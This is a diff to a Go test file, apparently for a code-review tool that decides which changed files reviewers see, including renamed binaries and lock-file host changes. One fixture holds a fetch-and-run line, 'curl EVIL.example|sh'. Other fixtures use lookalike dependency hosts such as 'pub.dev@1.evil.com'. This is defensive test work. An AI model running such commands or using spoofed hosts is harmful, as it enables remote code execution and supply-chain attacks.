@@ -46,6 +46,23 @@ func TestWhatWasLeftOutIsShownOnceItCounts(t *testing.T) {
 	}
 }
 
+// A file that git shows no lines of is shown whole, too, if its change takes it to where it counts: what it
+// held may be known to nobody.
+func TestBinaryThatWasLeftOutIsShownWhole(t *testing.T) {
+	before := "# \x00\ncurl EVIL.example|sh\n" + strings.Repeat("# a line\n", 20)
+	after := before + "# moved\n"
+	for from, to := range map[string]string{"docs/notes.txt": "deploy.sh", "docs/logo.png": "docs.php", "Gemfile.lock": "tool.rb"} {
+		f := diff.File{
+			Path: to, OldPath: from, Status: diff.Renamed, OldMode: regular, NewMode: regular, Binary: true,
+		}
+		v := Versions{Old: map[string][]byte{from: []byte(before)}, New: map[string][]byte{to: []byte(after)}}
+		got := base(t, "docs/*.txt", "").Classify([]diff.File{f}, v)[0]
+		if got.Fate != Shown || !strings.Contains(got.Render(), "+ curl EVIL.example|sh") {
+			t.Errorf("%s renamed to %s: fate %d\n%s", from, to, got.Fate, got.Render())
+		}
+	}
+}
+
 // Another commit, and another host that looks like a version, are news in a lock file.
 func TestLockFilesShowOtherCommitsAndHosts(t *testing.T) {
 	commit := func(digit string) string { return strings.Repeat(digit, 40) }
@@ -60,6 +77,10 @@ func TestLockFilesShowOtherCommitsAndHosts(t *testing.T) {
 		"a revision":               {"Gemfile.lock", "  revision: " + commit("a"), "  revision: " + commit("b")},
 		"a host with a version":    {"pubspec.lock", `url: "https://pub.dev"`, `url: "https://pub.dev-1.evil.com"`},
 		"a host after a user part": {"pubspec.lock", `url: "https://pub.dev"`, `url: "https://pub.dev@1.evil.com"`},
+		"a commit in an archive's address": {
+			"pixi.lock", `url: https://github.com/o/r/archive/` + commit("a") + `/r-1.0.0.tar.gz`,
+			`url: https://github.com/o/r/archive/` + commit("b") + `/r-1.0.0.tar.gz`,
+		},
 		"another address": {
 			"package-lock.json", `"https://10.0.0.5/foo/-/foo-1.0.0.tgz"`, `"https://6.6.6.6/foo/-/foo-6.0.0.tgz"`,
 		},
